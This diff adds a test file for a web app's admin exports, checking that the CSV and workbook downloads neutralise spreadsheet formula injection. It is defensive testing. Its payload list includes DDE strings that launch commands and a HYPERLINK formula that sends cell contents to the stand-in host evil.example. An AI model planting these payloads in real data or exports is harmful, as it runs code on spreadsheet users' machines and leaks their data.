@@ -1,0 +1,115 @@
+import { afterAll, describe, expect, it } from 'vitest'
+import { read, utils, type WorkBook } from 'xlsx'
+import { routesIn } from './table.ts'
+import { openWorld } from './world.ts'
+
+const world = await openWorld()
+afterAll(() => world.close())
+
+/** What spreadsheets run, also behind blanks, quotes and line ends, in full width, and by the old exchange of data. */
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|calc!A1',
+  '-2+3+cmd|calc!A1',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00A0=1+1',
+  '\u200E=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '|calc',
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  'x",=1+1,"',
+  'x\r\n=1+1,=2+2',
+] as const
+const RUNS = /^[\s\p{Cf}"']*[=+\-@|]/u
+const isNumber = (text: string): boolean => /^[+-]?[\d .()-]+$/.test(text)
+
+/** Puts a formula into every text that people can have written, of every record of the collections that are exported. */
+async function plant(formula: string): Promise<void> {
+  const em = world.deps.orm.em.fork()
+  const set = (collection: string, fields: readonly string[]) =>
+    em.getCollection(collection).updateMany({}, { $set: Object.fromEntries(fields.map((field) => [field, formula])) })
+  await set('teams', ['name', 'schoolName', 'city', 'stage', 'notes'])
+  await set('users', ['name', 'guardian_name', 'nationality'])
+  await set('wroseasons', ['name', 'name_en'])
+  await set('regions', ['ar_name'])
+  await set('competions', ['name', 'name_en'])
+  for (const collection of ['moetalents', 'wrosupports', 'championprogrames', 'teachertrainings']) {
+    const names = new Set(
+      (await em.getCollection(collection).find({}).toArray()).flatMap((record) => Object.keys(record)),
+    )
+    const texts = [...names].filter((name) =>
+      /name|school|city|subject|notes?|skills|office|identifier|year|id_number/.test(name),
+    )
+    if (texts.length > 0) await set(collection, texts)
+  }
+  const teams = em.getCollection<{ coaches: { name: string }[]; members: { name: string }[] }>('teams')
+  for (const { _id, coaches, members } of await teams.find({}).toArray()) {
+    const named = (people: { name: string }[]) => people.map((person) => ({ ...person, name: formula }))
+    await teams.updateOne({ _id }, { $set: { coaches: named(coaches), members: named(members) } })
+  }
+}
+
+/** Cells that a spreadsheet runs, or that it would if they were typed. */
+function running({ Sheets, SheetNames }: WorkBook): string[] {
+  return SheetNames.flatMap((name) => {
+    const sheet = Sheets[name] ?? {}
+    const cells = Object.entries(sheet).filter(([place]) => !place.startsWith('!'))
+    const formulas = cells.filter(([, cell]) => (cell as { f?: string }).f !== undefined)
+    const texts = utils
+      .sheet_to_json<string[]>(sheet, { header: 1, raw: false })
+      .flat()
+      .filter(
+        (text) =>
+          typeof text === 'string' && RUNS.test(text.normalize('NFKC')) && !isNumber(text) && !text.startsWith("'"),
+      )
+    return [...formulas.map(([place]) => `${place} is a formula`), ...texts]
+  })
+}
+
+/** Every list of the console, asked for as a file. */
+const exports: string[] = []
+for (const { method, path } of routesIn(world.api.app)) {
+  if (method !== 'GET' || !path.startsWith('/api/admin/') || path.includes(':')) continue
+  for (const query of ['download=true', 'download=true&competion_id=all']) {
+    const { status, headers } = await world.as('admin', { path: `${path}?${query}` })
+    if (status === 200 && headers['content-type']?.startsWith('text/csv')) exports.push(`${path}?${query}`)
+  }
+}
+
+describe('no spreadsheet reads a formula', () => {
+  it('in the exports that there are: of teams, people and the programmes’ forms', () => {
+    expect(new Set(exports.map((path) => path.split('?')[0]))).toEqual(
+      new Set(
+        ['users', 'teams', 'moe', 'wro-support', 'champion-programe', 'teacher-training'].map(
+          (name) => `/api/admin/${name}`,
+        ),
+      ),
+    )
+  })
+
+  it.each(FORMULAS.map((formula) => [JSON.stringify(formula), formula]))(
+    'where somebody wrote %s',
+    async (_shown, formula) => {
+      await plant(formula)
+      const competition = world.things.paid.competition
+      for (const path of [...exports, `/api/admin/teams?download=true&competion_id=${competition}`]) {
+        const csv = await world.as('admin', { path })
+        expect(csv.status, csv.text.slice(0, 200)).toBe(200)
+        expect(csv.text.replace(/\W/g, ''), `${path} holds what was planted`).toContain(formula.replace(/\W/g, ''))
+        expect(running(read(csv.text, { type: 'string', raw: true })), path).toEqual([])
+      }
+      const season = world.things.ground.season._id.toHexString()
+      const template = await world.as('admin', { path: `/api/admin/results/template?season=${season}&lang=en` })
+      expect(template.status).toBe(200)
+      const formulas = running(read(template.bytes)).filter((cell) => cell.endsWith('is a formula'))
+      expect(formulas, 'the workbook').toEqual([])
+    },
+  )
+})
